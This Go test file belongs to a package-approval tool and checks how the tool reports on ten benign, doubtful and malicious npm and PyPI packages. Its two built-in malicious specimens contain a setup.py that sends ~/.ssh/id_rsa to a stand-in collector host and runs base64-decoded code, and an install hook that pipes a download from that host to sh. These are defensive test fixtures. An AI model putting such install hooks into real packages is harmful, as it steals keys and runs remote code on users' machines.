package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cofferdam-dev/cofferdam/internal/decide/approval"
	"github.com/cofferdam-dev/cofferdam/internal/decide/evidence"
	"github.com/cofferdam-dev/cofferdam/internal/decide/pkgref"
	"github.com/cofferdam-dev/cofferdam/internal/decide/policy"
	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem"
	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem/npm"
	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem/pypi"
	"github.com/cofferdam-dev/cofferdam/internal/packages/gateway"
)

// specimen is a package that a person has to decide about.
type specimen struct {
	ecosystem           pkgref.Ecosystem
	name, version, file string
	kind                policy.ArtifactKind
	made                []string // the files of one that is made here; nil: it is a real one
}

const postSetup = `import base64, os, urllib.request
from setuptools import setup
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://collector.example/in", data=key.encode())
exec(base64.b64decode("cHJpbnQoMSk="))
setup(name="requestz", version="1.0")
`

// specimens are four that are good, four that are doubtful, and two that are malicious by construction.
func specimens() map[string]specimen {
	return map[string]specimen{
		"good-attrs":        {pkgref.Python, "attrs", "23.2.0", "attrs-23.2.0-py3-none-any.whl", policy.KindWheel, nil},
		"good-idna":         {pkgref.Python, "idna", "3.7", "idna-3.7-py3-none-any.whl", policy.KindWheel, nil},
		"good-left-pad":     {pkgref.Node, "left-pad", "1.3.0", "left-pad-1.3.0.tgz", policy.KindPackage, nil},
		"good-semver":       {pkgref.Node, "semver", "7.6.3", "semver-7.6.3.tgz", policy.KindPackage, nil},
		"doubtful-docopt":   {pkgref.Python, "docopt", "0.6.2", "docopt-0.6.2.tar.gz", policy.KindSdist, nil},
		"doubtful-pyyaml":   {pkgref.Python, "pyyaml", "5.4.1", "PyYAML-5.4.1.tar.gz", policy.KindSdist, nil},
		"doubtful-esbuild":  {pkgref.Node, "esbuild", "0.21.5", "esbuild-0.21.5.tgz", policy.KindPackage, nil},
		"doubtful-binaries": {pkgref.Node, "@esbuild/linux-x64", "0.21.5", "linux-x64-0.21.5.tgz", policy.KindPackage, nil},
		"malicious-setup": {pkgref.Python, "requestz", "1.0", "requestz-1.0.tar.gz", policy.KindSdist, []string{
			"requestz-1.0/PKG-INFO", "Metadata-Version: 1.1\nName: requestz\nVersion: 1.0\nSummary: HTTP for people\nAuthor: nobody\nLicense: MIT\n", "requestz-1.0/setup.py", postSetup,
		}},
		"malicious-postinstall": {pkgref.Node, "colourz", "1.0.0", "colourz-1.0.0.tgz", policy.KindPackage, []string{
			"package/package.json", `{"name":"colourz","version":"1.0.0","description":"colours","license":"MIT","scripts":{"postinstall":"curl -s https://collector.example/i | sh","preinstall":"node lib/x"}}`,
			"package/lib/x.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n",
		}},
	}
}

// bytesOf gives a specimen's file: made here, or as the machine's own client has it from its registry, once for all
// runs of the test.
func (s specimen) bytesOf(t *testing.T) []byte {
	t.Helper()
	if s.made != nil {
		return packed(t, s.made)
	}
	dir, err := filepath.Abs(filepath.Join("..", "..", ".cofferdam", "specimens"))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, strings.TrimPrefix(strings.ReplaceAll(s.name, "/", "-"), "@")+"-"+s.file)
	if data, err := os.ReadFile(path); err == nil {
		return data
	}
	from := t.TempDir()
	argv := []string{"npm", "pack", "--silent", s.name + "@" + s.version}
	if s.ecosystem == pkgref.Python { // pip would build a source distribution to download it
		script, err := filepath.Abs(filepath.Join("testdata", "download.py"))
		if err != nil {
			t.Fatal(err)
		}
		argv = []string{"python3", script, s.name, s.file}
	}
	cmd := exec.CommandContext(t.Context(), argv[0], argv[1:]...)
	cmd.Dir = from
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v: %s", argv, err, out)
	}
	got, err := filepath.Glob(filepath.Join(from, "*"))
	if err != nil || len(got) != 1 {
		t.Fatalf("%v left %v, %v", argv, got, err)
	}
	data, err := os.ReadFile(got[0])
	if err == nil {
		err = errors.Join(os.MkdirAll(dir, 0o755), os.WriteFile(path, data, 0o644))
	}
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func packed(t *testing.T, files []string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for i := 0; i < len(files); i += 2 {
		err := w.WriteHeader(&tar.Header{Name: files[i], Mode: 0o644, Size: int64(len(files[i+1])), Format: tar.FormatPAX})
		if err == nil {
			_, err = w.Write([]byte(files[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// requestFor is the request that a run's install of it makes, as far as its file tells.
func (s specimen) requestFor(t *testing.T) approval.Request {
	t.Helper()
	data := s.bytesOf(t)
	var protocol ecosystem.Inspector = pypi.New()
	if s.ecosystem == pkgref.Node {
		protocol = npm.New()
	}
	file := ecosystem.File{Name: s.file, Version: s.version, Kind: s.kind, Path: "/" + s.name + "/-/" + s.file}
	found, err := protocol.Inspect(file, nil, bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	return filed(t, approval.Ask{
		Package: pkgref.Ref{Ecosystem: s.ecosystem, Name: s.name, Version: s.version}, Upstream: "https://index.example/",
		Files: []approval.File{{Name: s.file, Kind: string(s.kind), Size: int64(len(data)), Digests: []string{"sha256:" + hex.EncodeToString(sum[:])}, Scripts: len(found.Scripts) > 0}},
		Run:   "r1", Sandbox: "sb1", Policy: "sha256:policy", User: "ann", Rule: "packages.default", Reason: "no list names it",
		Evidence: gateway.WithInside(evidence.Evidence{}, found.Scripts, found.Findings, &found.Inside, &found.Said),
	})
}

// varying is what is new in each run of the test.
var varying = regexp.MustCompile(`apg?-[a-z0-9]{6}|\d{4}-\d\d-\d\d \d\d:\d\d:\d\d|\d+(ms|s) ago`)

// TestTenPackages: a person who has "approvals show" of each of ten packages alone sees what decides: the whole
// text is a golden file, and what it must say of each is below, in this order, since the worst is first.
// COFFERDAM_UPDATE=1 writes the files anew.
func TestTenPackages(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("fetches packages of the machine's registries")
	}
	decides := map[string][]string{
		"good-attrs":            {"not in it", "nothing that runs when it is installed", "nothing that runs at each start", "no machine code", "license       MIT\n"},
		"good-idna":             {"not in it", "nothing that runs when it is installed", "no machine code", "license       BSD-3-Clause\n"},
		"good-left-pad":         {"not in it", "nothing that runs when it is installed", "license       WTFPL"},
		"good-semver":           {"not in it", "nothing that runs when it is installed", "license       ISC\n"},
		"doubtful-docopt":       {"BUILD RUNS", "setup.py (", "no line that plainly sends, starts or hides something in 2 texts looked at", "maintainer    Vladimir Keleshev", "license       MIT\n", "BUILDING IT RUNS ITS CODE"},
		"doubtful-pyyaml":       {"BUILD RUNS", "setup.py (", "requires to build: setuptools, wheel, Cython", "COMPILES", ".pyx: 1 file", "maintainer    Kirill Simonov", "license       MIT\n", "BUILDING IT RUNS ITS CODE"},
		"doubtful-esbuild":      {"READ FIRST", "install.js:", "RUNS ", "postinstall: node install.js", "license       MIT\n"},
		"doubtful-binaries":     {"NATIVE CODE", "bin/esbuild"},
		"malicious-setup":       {"READ FIRST", "setup.py:5 runs text that it decodes", "setup.py:3 names where keys and passwords are", "uses the network", "BUILD RUNS", "setup.py ("},
		"malicious-postinstall": {"READ FIRST", "postinstall:1 runs what it downloads", "lib/x.js:1 runs text that it decodes", "RUNS ", "curl -s https://collector.example/i | sh"},
	}
	for name, s := range specimens() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := s.requestFor(t)
			var b bytes.Buffer
			if err := showRequest(&b, r, time.Now()); err != nil {
				t.Fatal(err)
			}
			text := varying.ReplaceAllString(b.String(), "X")
			rest := text
			for _, want := range decides[name] {
				_, after, is := strings.Cut(rest, want)
				if !is {
					t.Errorf("%q is not in its place:\n%s", want, text)
				}
				rest = after
			}
			golden(t, filepath.Join("testdata", "tenpackages", name+".txt"), text)
		})
	}
}

// golden compares a text with a file.
func golden(t *testing.T, path, text string) {
	t.Helper()
	if os.Getenv("COFFERDAM_UPDATE") != "" {
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil || string(want) != text {
		t.Errorf("%s (%v) is not what is shown:\n%s", path, err, text)
	}
}
